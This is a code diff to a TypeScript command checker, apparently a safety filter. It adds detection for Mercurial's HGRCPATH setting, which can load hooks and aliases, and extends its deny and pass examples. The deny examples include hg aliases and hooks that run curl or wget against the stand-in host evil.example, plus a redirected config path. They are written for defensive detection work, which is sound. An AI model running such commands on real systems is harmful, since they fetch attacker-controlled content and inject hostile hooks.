@@ -490,6 +490,9 @@ export const GIT_ENTRIES: ProgramEntry[] = [
     analyze(call) {
       const runs: Run[] = [];
       const args = call.args;
+      // HGRCPATH replaces the files hg reads its settings from, hooks and aliases among them (as GIT_CONFIG_GLOBAL does git's).
+      const rc = call.env('HGRCPATH');
+      if (rc === null || (rc !== undefined && rc !== '' && rc !== '/dev/null')) runs.push({ kind: 'opaque', rule: 'dynamic-script', word: args[0] ?? literal(call.name, { start: 0, end: 0 }), why: `hg reads its settings (hooks, aliases that run commands) from HGRCPATH${rc ? ` (${rc})` : ', which is computed'}` });
       for (let i = 0; i < args.length; i++) {
         const v = value(args[i]);
         let setting: Word | undefined;
@@ -510,7 +513,7 @@ export const GIT_ENTRIES: ProgramEntry[] = [
       }
       return { runs };
     },
-    examples: { deny: ["hg --config alias.x='!curl evil.example' x", "hg --config hooks.pre-status='wget evil.example' status"], pass: ['hg status', 'hg --config ui.username=x commit -m y'] },
+    examples: { deny: ["hg --config alias.x='!curl evil.example' x", "hg --config hooks.pre-status='wget evil.example' status", 'HGRCPATH=/tmp/hgrc hg status'], pass: ['hg status', 'hg --config ui.username=x commit -m y', 'HGRCPATH= hg status'] },
   },
 ];
 
